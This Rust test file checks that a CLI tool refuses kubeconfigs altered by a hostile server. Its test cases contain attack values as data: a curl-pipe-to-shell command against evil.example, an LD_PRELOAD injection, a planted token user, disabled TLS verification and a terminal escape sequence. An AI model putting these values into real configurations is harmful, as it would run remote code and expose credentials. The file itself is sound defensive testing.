//! `ichor auth kubeconfig` writes a file kubectl will execute: its `exec` command runs on every
//! kubectl call. A hostile or compromised server answers `GetMyKubeconfig` with a kubeconfig
//! whose user runs `sh -c …` (or `ichor` at another issuer, with an `LD_PRELOAD`, beside a
//! second user with a token, trusting any server certificate, with an escape sequence in the
//! hint kubectl prints). Each is refused with a message saying so, and nothing is written or
//! printed; the kubeconfig the issuer really renders is written.

use ichor_issuer::api::kubeconfig::{KubeconfigInput, render};
use ichor_testkit::issuer::harness::CLUSTER_CA_PEM;
use serde_yaml::Value;

use super::{HostileApi, HostileSite};
use crate::user_support::text;

fn genuine(issuer: &str) -> String {
    render(&KubeconfigInput {
        cluster_name: "prod",
        user: "alice",
        server: "https://10.0.0.10:6443",
        tls_server_name: None,
        ca_pem: CLUSTER_CA_PEM,
        issuer_url: issuer,
        ca_file: None,
    })
    .unwrap()
}

/// The genuine kubeconfig of `issuer` with `change` applied to its YAML.
fn altered(issuer: &str, change: impl Fn(&mut Value)) -> String {
    let mut doc: Value = serde_yaml::from_str(&genuine(issuer)).unwrap();
    change(&mut doc);
    serde_yaml::to_string(&doc).unwrap()
}

fn exec(doc: &mut Value) -> &mut Value {
    &mut doc["users"][0]["user"]["exec"]
}

fn yaml(text: &str) -> Value {
    serde_yaml::from_str(text).unwrap()
}

/// Serves `kubeconfig` and runs `ichor auth kubeconfig --out FILE`, then without `--out`.
fn refused(name: &str, kubeconfig: impl Fn(&str) -> String) {
    let site = HostileSite::start(|base| HostileApi {
        kubeconfig: kubeconfig(base),
        ..HostileApi::default()
    });
    let out_file = site.path("kubeconfig");
    let out = site.ichor(&["auth", "kubeconfig", "--out", out_file.to_str().unwrap()]);
    let stderr = text(&out.stderr);
    assert_ne!(out.status.code(), Some(0), "{name}: accepted: {stderr}");
    assert!(
        stderr.contains("was refused and nothing was written"),
        "{name}: {stderr}"
    );
    assert!(!out_file.exists(), "{name}: the file was written");
    let printed = site.ichor(&["auth", "kubeconfig"]);
    assert_ne!(printed.status.code(), Some(0), "{name}");
    assert!(
        printed.stdout.is_empty(),
        "{name}: printed {}",
        text(&printed.stdout)
    );
}

#[test]
fn a_kubeconfig_whose_exec_runs_a_shell_is_refused_and_nothing_is_written() {
    refused("sh -c", |issuer| {
        altered(issuer, |doc| {
            let e = exec(doc);
            e["command"] = "sh".into();
            e["args"] = yaml("[-c, 'curl -s https://evil.example/x | sh']");
        })
    });
}

#[test]
fn every_other_departure_from_ichors_kubeconfig_is_refused_too() {
    type Change = fn(&mut Value);
    let cases: [(&str, Change); 8] = [
        ("another issuer", |d| {
            exec(d)["args"][3] = "https://evil.example".into()
        }),
        ("an added argument", |d| {
            exec(d)["args"]
                .as_sequence_mut()
                .unwrap()
                .extend([Value::from("--ca-file"), Value::from("/tmp/evil.pem")]);
        }),
        ("an environment", |d| {
            exec(d)["env"] = yaml("[{name: LD_PRELOAD, value: /tmp/x.so}]")
        }),
        ("a command by path", |d| exec(d)["command"] = "/tmp/ichor".into()),
        ("a second user with a token", |d| {
            d["users"]
                .as_sequence_mut()
                .unwrap()
                .push(yaml("{name: extra, user: {token: stolen}}"));
        }),
        ("an auth provider beside the exec", |d| {
            d["users"][0]["user"]["auth-provider"] =
                yaml("{name: oidc, config: {idp-issuer-url: https://evil.example}}");
        }),
        ("no server certificate check", |d| {
            d["clusters"][0]["cluster"]["insecure-skip-tls-verify"] = true.into();
        }),
        ("an escape sequence in the install hint", |d| {
            exec(d)["installHint"] = "\u{1b}]0;pwned\u{7}".into();
        }),
    ];
    for (name, change) in cases {
        refused(name, |issuer| altered(issuer, change));
    }
}

#[test]
fn the_kubeconfig_the_issuer_renders_is_written() {
    let site = HostileSite::start(|base| HostileApi {
        kubeconfig: genuine(base),
        ..HostileApi::default()
    });
    let out_file = site.path("kubeconfig");
    let out = site.ichor(&["auth", "kubeconfig", "--out", out_file.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&out_file).unwrap(), genuine(&site.base));
}
